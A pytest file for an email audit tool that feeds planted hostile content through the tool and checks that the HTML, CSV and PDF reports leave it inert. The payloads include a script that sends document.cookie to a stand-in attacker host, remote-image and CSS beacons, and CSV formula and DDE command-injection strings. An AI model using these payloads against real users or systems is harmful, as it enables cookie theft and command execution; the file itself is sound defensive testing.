"""Hostile email content end to end: script tags, remote images, CSS url()/@import/<link>,
formula cells, RTL and zero-width characters, a 10 MB body, and an archived .eml with invalid
UTF-8. Over real sockets, with a counting HTTP server standing in for the attacker's host:
nothing may be fetched, HTML shows the text escaped, CSV neutralises, the PDF renders."""

from __future__ import annotations

import csv
import json
import os
import resource
import shutil
import time
import urllib.request
from html.parser import HTMLParser
from pathlib import Path

import duckdb
import pytest
from pypdf import PdfReader

from auditkit.pack import verify_pack
from auditkit.report.pages import MAX_BODY_CHARS
from tests.conftest import SAMPLE_DATA, HitCounter
from tests.reliability.conftest import (
    CONFIG,
    run_args,
    run_cli,
    running_sandbox,
    sandbox_env,
)

BIG_BODY_BYTES = 10 * 1024 * 1024
FORMULA_SUBJECTS = [
    '=HYPERLINK("http://{host}/formula","Click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]
UNICODE_SUBJECT = (
    "Invoice \u202egnp.exe\u202c \u200bzero\u200dwidth\ufeff "
    "\u0627\u0644\u0639\u0631\u0628\u064a\u0629"
)
# Controls whose planted findings do not depend on the body, so rewriting the body of their
# target emails keeps them flagged and their evidence pages in the pack.
BODY_INDEPENDENT_CONTROLS = ("OVS-", "AL-002", "TR-")


def flagged_email_ids(data: Path) -> list[str]:
    planted = json.loads((data / "expected_findings.json").read_text(encoding="utf-8"))
    ids = [
        f["target_id"]
        for f in planted
        if f["target_type"] == "email" and f["control_id"].startswith(BODY_INDEPENDENT_CONTROLS)
    ]
    return list(dict.fromkeys(ids))


def hostile_bodies(host: str) -> list[str]:
    url = f"http://{host}"
    return [
        f"<script>fetch('{url}/script?c='+document.cookie)</script>Hi there",
        f'<img src="{url}/img.png" onerror="alert(1)"> and ![markdown image]({url}/md.png)',
        f"<style>body {{ background: url({url}/css-url.png) }}</style>styled",
        f'<link rel="stylesheet" href="{url}/link.css"><iframe src="{url}/iframe"></iframe>',
        f'<style>@import url("{url}/import.css");</style><svg><image href="{url}/svg.png"/></svg>',
        f'{UNICODE_SUBJECT}\n<a href="javascript:alert(1)">x</a> '
        f'<object data="{url}/obj"></object>',
    ]


def make_hostile(data: Path, host: str) -> tuple[dict[str, dict[str, str]], str, list[str]]:
    """Rewrite emails.jsonl in place; returns ({id: {"subject", "body"}} of what was planted,
    the id of the 10 MB message, the ids with hostile markup bodies)."""
    big_body_id, *hostile_ids = flagged_email_ids(data)
    assert len(hostile_ids) >= 6, "the sample plants enough body-independent findings"
    path = data / "multimail" / "emails.jsonl"
    records = [
        json.loads(line) for line in path.read_text(encoding="utf-8").splitlines() if line.strip()
    ]
    bodies = hostile_bodies(host)
    planted = {}
    outbound = [r for r in records if r.get("direction") == "outbound"]
    for i, rec in enumerate(outbound):
        rec["subject"] = (FORMULA_SUBJECTS + [UNICODE_SUBJECT])[i % 7].format(host=host)
        planted[rec["id"]] = {"subject": rec["subject"]}
    by_id = {r["id"]: r for r in records}
    for i, mid in enumerate(hostile_ids):
        by_id[mid]["markdown"] = bodies[i % len(bodies)]
        planted[mid]["body"] = by_id[mid]["markdown"]
    head = bodies[0] + "\n" + bodies[2] + "\n"
    by_id[big_body_id]["markdown"] = head + "A" * (BIG_BODY_BYTES - len(head))
    by_id[big_body_id]["tags"]["agent"] = f'=HYPERLINK("http://{host}/agent")'
    path.write_text(
        "".join(json.dumps(r, ensure_ascii=False) + "\n" for r in records), encoding="utf-8"
    )
    return planted, big_body_id, hostile_ids


class ActiveContent(HTMLParser):
    """Everything in an HTML document a browser would act on: tags, attribute values, and the
    text of <style> and <script> elements."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.attributes: list[str] = []
        self.style_or_script: list[str] = []
        self._in: str | None = None

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += [v or "" for _, v in attrs]
        self._in = tag if tag in ("style", "script") else None

    def handle_endtag(self, tag: str) -> None:
        self._in = None

    def handle_data(self, data: str) -> None:
        if self._in:
            self.style_or_script.append(data)


@pytest.mark.slow
def test_hostile_content_is_inert_everywhere(
    dataset_copy: Path, listener: HitCounter, tmp_path: Path
) -> None:
    host, hits = listener.host, listener.paths
    # The counter works: one probe is counted, then forgotten.
    urllib.request.urlopen(f"http://{host}/probe", timeout=5).close()
    assert hits == ["/probe"]
    hits.clear()
    planted, big_body_id, hostile_ids = make_hostile(dataset_copy, host)
    db, out_root = tmp_path / "store.duckdb", tmp_path / "out"
    started = time.perf_counter()
    with running_sandbox(dataset_copy) as server:
        r = run_cli(run_args(db, out_root, "--json"), sandbox_env(server), timeout=300)
    seconds = time.perf_counter() - started
    assert r.returncode == 10, r.stderr[-3000:]
    assert "Traceback" not in r.stderr
    assert hits == [], f"the pack fetched from the 'remote' host: {hits}"
    # 10 MB body: bounded time and memory (generous: a 60-message run takes ~7 s, ~300 MB).
    assert seconds < 90
    max_rss_mb = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss / 1024
    assert max_rss_mb < 2048, max_rss_mb
    pack = out_root / "2026Q3"
    assert verify_pack(pack).ok

    html = (pack / "report.html").read_text(encoding="utf-8")
    active = ActiveContent()
    active.feed(html)
    for forbidden in ("script", "iframe", "object", "link", "img", "svg", "image"):
        assert html.count(f"<{forbidden}") == active.tags.count(forbidden), forbidden
    assert (
        "script" not in active.tags and "iframe" not in active.tags and "object" not in active.tags
    )
    assert not [a for a in active.attributes if host in a or a.lower().startswith("javascript:")]
    assert not [s for s in active.style_or_script if host in s]
    assert (
        "&lt;script&gt;fetch(" in html
        and f"&lt;img src=&#34;http://{host}/img.png" in html
        or f"&lt;img src=&quot;http://{host}/img.png" in html
    )
    for mid in hostile_ids:
        assert mid in html
    assert "\u202egnp.exe" in html  # RTL override kept as text (HTML escaping does not drop it)

    with (pack / "messages.csv").open(encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert len(rows) == sum(1 for _ in planted)
    for row in rows:
        for cell in row.values():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
        subject = planted[row["message_id"]]["subject"]
        expected = (
            "'" + subject if subject.startswith(("=", "+", "-", "@", "\t", "\r")) else subject
        )
        assert row["subject"] == expected
    big = next(row for row in rows if row["message_id"] == big_body_id)
    assert big["agent"].startswith("'=HYPERLINK(")

    reader = PdfReader(pack / "report.pdf")
    text = "\n".join(page.extract_text() or "" for page in reader.pages)
    assert "<script>fetch(" in text, "the PDF shows hostile markup as text"
    note = f"first {MAX_BODY_CHARS:,} of {BIG_BODY_BYTES:,} characters"
    assert note in text.replace("\n", " "), "the 10 MB body's page must say it is truncated"
    assert len(reader.pages) < 400


def test_archive_eml_with_invalid_utf8(tmp_path: Path, harvested_small_dataset: Path) -> None:
    """harvest-archive over sent copies with invalid UTF-8 bytes in headers and body, an empty
    file and binary junk, next to a good copy."""
    source = sorted((SAMPLE_DATA / "archive" / "eml").glob("*.eml"))[0].read_bytes()
    sep = b"\r\n\r\n" if b"\r\n\r\n" in source else b"\n\n"
    headers, body = source.split(sep, 1)
    headers = headers.replace(b"Subject: ", b"Subject: \xff\xfe\xc3(=HYPERLINK \xe2\x80\xae ", 1)
    mangled = headers + sep + b"\xff\xfe<script>alert(1)</script>\xc3\x28\xa0\xa1\n" + body
    archive = tmp_path / "archive"
    archive.mkdir()
    (archive / "bad.eml").write_bytes(mangled)
    (archive / "empty.eml").write_bytes(b"")
    (archive / "binary.eml").write_bytes(bytes(range(256)) * 64)
    shutil.copy(sorted((SAMPLE_DATA / "archive" / "eml").glob("*.eml"))[1], archive / "good.eml")
    db = tmp_path / "store.duckdb"
    shutil.copy(harvested_small_dataset, db)
    done = run_cli(
        [
            "harvest-archive",
            str(archive),
            "--keys",
            str(SAMPLE_DATA / "dns" / "keys.txt"),
            "--config",
            str(CONFIG),
            "--db",
            str(db),
            "--json",
        ],
        os.environ,
    )
    assert "Traceback" not in done.stderr
    assert done.returncode == 0, done.stderr[-2000:]
    assert json.loads(done.stdout)
    con = duckdb.connect(str(db), read_only=True)
    try:
        tables = [
            r[0]
            for r in con.execute(
                "SELECT table_name FROM information_schema.tables WHERE table_name LIKE '%archive%'"
            ).fetchall()
        ]
        stored = sum(con.execute(f'SELECT count(*) FROM "{t}"').fetchall()[0][0] for t in tables)
    finally:
        con.close()
    assert stored >= 1, "the archive copies were recorded"
